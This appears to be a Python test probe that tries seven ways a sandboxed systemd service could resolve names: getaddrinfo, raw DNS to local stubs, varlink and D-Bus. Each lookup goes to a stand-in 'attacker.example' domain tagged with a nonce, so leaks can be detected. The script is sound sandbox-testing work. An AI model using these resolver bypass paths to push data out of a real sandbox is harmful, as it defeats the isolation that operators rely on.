"""Every way a process could resolve a name, tried from inside a unit (run as the unit's
ExecStart by tests/system/test_name_resolution.py, with the unit's own sandboxing).

`python resolution_probe.py NONCE [NAME…]`: each path asks for its own name
`<path>-<NONCE>.t1-prompt.attacker.example` (so the DNS stand-in's record says which path
leaked), then each NAME through getaddrinfo. Prints one line: `PROBE <NONCE> <json>`, each
path's outcome `ok <address>` or `failed: <why>`.

Standalone on purpose (the unit has no PYTHONPATH): only the standard library and dbus_fast.
"""

from __future__ import annotations

import asyncio
import json
import os
import random
import socket
import struct
import sys
from collections.abc import Callable

SUFFIX = "t1-prompt.attacker.example"
VARLINK = "/run/systemd/resolve/io.systemd.Resolve"
TIMEOUT_S = 3.0


def query(name: str) -> bytes:
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + labels + \
        b"\0" + struct.pack(">HH", 1, 1)


def first_a(reply: bytes) -> str:
    """The first A record's address in a reply (the stand-in answers one), or the rcode."""
    rcode, answers = reply[3] & 0x0F, struct.unpack(">H", reply[6:8])[0]
    if rcode or not answers:
        return f"failed: rcode {rcode}, {answers} answers"
    return "ok " + socket.inet_ntoa(reply[-4:])


def raw_udp(server: str, name: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT_S)
        sock.sendto(query(name), (server, 53))
        return first_a(sock.recv(4096))


def raw_tcp(server: str, name: str) -> str:
    with socket.create_connection((server, 53), timeout=TIMEOUT_S) as sock:
        message = query(name)
        sock.sendall(struct.pack(">H", len(message)) + message)
        size = struct.unpack(">H", sock.recv(2))[0]
        return first_a(sock.recv(size))


def getaddrinfo(name: str) -> str:
    return "ok " + socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]


def varlink(name: str) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(TIMEOUT_S)
        sock.connect(VARLINK)
        sock.sendall(json.dumps({"method": "io.systemd.Resolve.ResolveHostname",
                                 "parameters": {"name": name, "family": 2}}).encode() + b"\0")
        reply = b""
        while not reply.endswith(b"\0"):
            chunk = sock.recv(4096)
            if not chunk:
                break
            reply += chunk
    answer = json.loads(reply.rstrip(b"\0"))
    addresses = answer.get("parameters", {}).get("addresses")
    if not addresses:
        return f"failed: {answer.get('error') or answer}"
    return "ok " + ".".join(str(b) for b in addresses[0]["address"])


async def dbus(name: str) -> str:
    from dbus_fast import BusType, Message, MessageType
    from dbus_fast.aio import MessageBus

    bus = await MessageBus(bus_type=BusType.SYSTEM).connect()
    try:
        reply = await asyncio.wait_for(bus.call(Message(
            destination="org.freedesktop.resolve1", path="/org/freedesktop/resolve1",
            interface="org.freedesktop.resolve1.Manager", member="ResolveHostname",
            signature="isit", body=[0, name, socket.AF_INET, 0])), TIMEOUT_S)
    finally:
        bus.disconnect()
    if reply.message_type is MessageType.ERROR:
        return f"failed: {reply.error_name}: {reply.body}"
    return "ok " + ".".join(str(b) for b in reply.body[0][0][2])


def attempt(call: Callable[..., object], *args: object) -> str:
    try:
        result = call(*args)
        if asyncio.iscoroutine(result):
            result = asyncio.run(result)
        return str(result)
    except Exception as error:  # every failure is an outcome here
        return f"failed: {type(error).__name__}: {error}"


def main() -> None:
    nonce, names = sys.argv[1], sys.argv[2:]
    paths = {
        "getaddrinfo": (getaddrinfo,),
        "stub-udp": (raw_udp, "127.0.0.53"),
        "stub-tcp": (raw_tcp, "127.0.0.53"),
        "loopback-udp": (raw_udp, "127.0.0.1"),
        "loopback-tcp": (raw_tcp, "127.0.0.1"),
        "varlink": (varlink,),
        "dbus": (dbus,),
    }
    outcomes = {}
    for path, (call, *args) in paths.items():
        outcomes[path] = attempt(call, *args, f"{path}-{nonce}.{SUFFIX}")
    for name in names:
        outcomes[f"name {name}"] = attempt(getaddrinfo, name)
    outcomes["groups"] = " ".join(str(g) for g in os.getgroups())
    print(f"PROBE {nonce} {json.dumps(outcomes)}", flush=True)


if __name__ == "__main__":
    main()
